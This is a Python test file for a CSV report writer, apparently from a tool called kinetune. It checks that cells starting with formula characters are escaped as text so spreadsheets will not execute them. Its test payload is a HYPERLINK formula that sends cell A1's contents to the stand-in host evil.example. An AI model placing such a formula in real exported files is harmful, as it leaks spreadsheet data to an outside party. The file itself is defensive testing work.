"""CSV for programs and spreadsheets: raw numbers, and no key that a spreadsheet would execute."""

from __future__ import annotations

import csv
import io

import pytest

from kinetune.model.report import Report
from kinetune.reports.csv_format import write

LINK = 'HYPERLINK("http://evil.example/?"&A1)'


def cells(*values: object) -> list[str]:
    stream = io.StringIO()
    write(Report("kinetune hotspots", "", (), {}, records=tuple({"cell": value} for value in values)), stream)
    head, *rows = csv.reader(io.StringIO(stream.getvalue()))
    assert head == ["cell"]
    return [row[0] for row in rows]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\n=", "\t", "=\n"])
def test_a_cell_that_begins_like_a_formula_becomes_text(sign: str) -> None:
    assert cells(f"{sign}{LINK}") == [f"'{sign}{LINK}"]


def test_a_carriage_return_before_the_sign_is_escaped() -> None:
    assert cells(f"\r={LINK}") == [f"\\x0d={LINK}"]


def test_other_cells_are_unchanged() -> None:
    assert cells("/registry/pods/=+-@", " =", "'=", "", None, -7, -0.5) == [
        *("/registry/pods/=+-@", " =", "'=", "", "", "-7", "-0.5")
    ]
